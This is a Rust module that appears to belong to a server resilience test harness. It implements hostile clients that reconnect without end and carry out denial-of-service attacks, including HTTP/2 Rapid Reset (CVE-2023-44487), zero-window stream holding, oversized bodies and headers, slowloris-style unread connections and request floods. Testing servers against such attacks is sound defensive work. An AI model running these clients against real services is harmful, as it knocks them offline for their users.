//! Hostile clients: each does its worst, and comes again when its connection is closed.

use std::io;
use std::net::SocketAddr;
use std::time::Duration;

use futures_util::future::join_all;
use harness::process::block_on;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};

use super::frames;

/// How long a client whose connection was closed waits before it comes again.
const AGAIN_AFTER: Duration = Duration::from_millis(200);
/// The streams of one connection that are open at once, as many as the server lets.
const STREAMS: u32 = 200;
/// A small buffer, so that what a client does not read stays with the server.
const RECEIVE_BUFFER: u32 = 4096;
/// The same for what it sends and the server does not read.
const SEND_BUFFER: u32 = 64 << 10;
/// A part of a body, which all clients share.
static SPACES: [u8; 50_000] = [b' '; 50_000];

/// What the clients of a case do.
#[derive(Clone, Copy)]
pub enum Attack {
    /// Ask for 200 lists on each connection of HTTP/2, and open no window for them.
    ZeroWindows,
    /// Send 900 KB of the body of a sign-in.
    Bodies,
    /// Send 30 KB of a head.
    Heads,
    /// Ask for a list, and read nothing.
    Unread,
    /// Ask for lists and take each request back at once (CVE-2023-44487).
    RapidReset,
    /// Ask for lists, again as soon as they are answered or refused.
    Flood,
}

impl Attack {
    /// All of them, with their names and how many clients each has.
    pub const ALL: [(&str, Attack, usize); 6] = [
        ("zero_windows", Attack::ZeroWindows, 20),
        ("bodies", Attack::Bodies, 2000),
        ("heads", Attack::Heads, 2000),
        ("unread", Attack::Unread, 2000),
        ("rapid_reset", Attack::RapidReset, 4),
        ("flood", Attack::Flood, 64),
    ];

    /// Goes on for this long, and closes all connections then.
    pub fn run(self, address: SocketAddr, clients: usize, token: &str, path: &str, span: Duration) {
        let client = AttackClient { attack: self, address, token, path };
        let all = join_all((0..clients).map(|_| client.for_ever()));
        block_on(async {
            let _ = tokio::time::timeout(span, all).await;
        });
    }
}

struct AttackClient<'a> {
    attack: Attack,
    address: SocketAddr,
    token: &'a str,
    path: &'a str,
}

impl AttackClient<'_> {
    async fn for_ever(&self) {
        loop {
            // A closed connection is what it provokes.
            let _ = self.once().await;
            tokio::time::sleep(AGAIN_AFTER).await;
        }
    }

    async fn once(&self) -> io::Result<()> {
        let socket = TcpSocket::new_v4()?;
        socket.set_recv_buffer_size(RECEIVE_BUFFER)?;
        socket.set_send_buffer_size(SEND_BUFFER)?;
        let mut connection = socket.connect(self.address).await?;
        match self.attack {
            Attack::ZeroWindows => {
                connection.write_all(&frames::preface(Some(0))).await?;
                for number in 0..STREAMS {
                    connection.write_all(&frames::get(2 * number + 1, self.path, self.token)).await?;
                }
                read_to_end(&mut connection).await
            }
            Attack::Bodies => {
                let head = "POST /v1/auth/sign-in HTTP/1.1\r\nhost: app.test\r\ncontent-type: application/json\r\n\
                            content-length: 1000000\r\n\r\n";
                connection.write_all(head.as_bytes()).await?;
                for _ in 0..900_000 / SPACES.len() {
                    connection.write_all(&SPACES).await?;
                }
                read_to_end(&mut connection).await
            }
            Attack::Heads => {
                let mut head = b"GET /healthz HTTP/1.1\r\nhost: app.test\r\nx-long: ".to_vec();
                head.resize(30_000, b'x');
                connection.write_all(&head).await?;
                read_to_end(&mut connection).await
            }
            Attack::Unread => {
                connection.write_all(&self.get()).await?;
                // It learns that the connection is closed by writing.
                loop {
                    tokio::time::sleep(Duration::from_secs(1)).await;
                    connection.write_all(b"\r\n").await?;
                }
            }
            Attack::RapidReset => self.reset_rapidly(connection).await,
            Attack::Flood => loop {
                connection.write_all(&self.get()).await?;
                read_answer(&mut connection).await?;
            },
        }
    }

    fn get(&self) -> Vec<u8> {
        let AttackClient { token, path, .. } = self;
        format!("GET {path} HTTP/1.1\r\nhost: app.test\r\nauthorization: Bearer {token}\r\n\r\n").into_bytes()
    }

    async fn reset_rapidly(&self, mut connection: TcpStream) -> io::Result<()> {
        connection.write_all(&frames::preface(None)).await?;
        let (mut reads, mut writes) = connection.split();
        let resets = async {
            for number in 0..u32::MAX / 4 {
                let stream = 2 * number + 1;
                let pair = [frames::get(stream, self.path, self.token), frames::reset(stream)].concat();
                writes.write_all(&pair).await?;
            }
            Ok::<(), io::Error>(())
        };
        tokio::select! {
            ended = resets => ended,
            ended = read_to_end(&mut reads) => ended,
        }
    }
}

async fn read_to_end(connection: &mut (impl tokio::io::AsyncRead + Unpin)) -> io::Result<()> {
    let mut piece = [0; 4096];
    while connection.read(&mut piece).await? > 0 {}
    Ok(())
}

/// Reads an answer of HTTP/1.1 with a content-length.
async fn read_answer(connection: &mut TcpStream) -> io::Result<()> {
    let mut seen = Vec::new();
    loop {
        if connection.read_buf(&mut seen).await? == 0 {
            return Err(io::ErrorKind::UnexpectedEof.into());
        }
        let Some(end) = seen.windows(4).position(|bytes| bytes == b"\r\n\r\n") else { continue };
        let head = String::from_utf8_lossy(&seen[..end]).to_ascii_lowercase();
        let length =
            head.lines().find_map(|line| line.strip_prefix("content-length: ")?.parse::<usize>().ok());
        let mut left = (end + 4 + length.unwrap_or(0)).saturating_sub(seen.len());
        let mut piece = [0; 16 << 10];
        while left > 0 {
            let most = piece.len().min(left);
            match connection.read(&mut piece[..most]).await? {
                0 => return Err(io::ErrorKind::UnexpectedEof.into()),
                bytes => left -= bytes,
            }
        }
        return Ok(());
    }
}
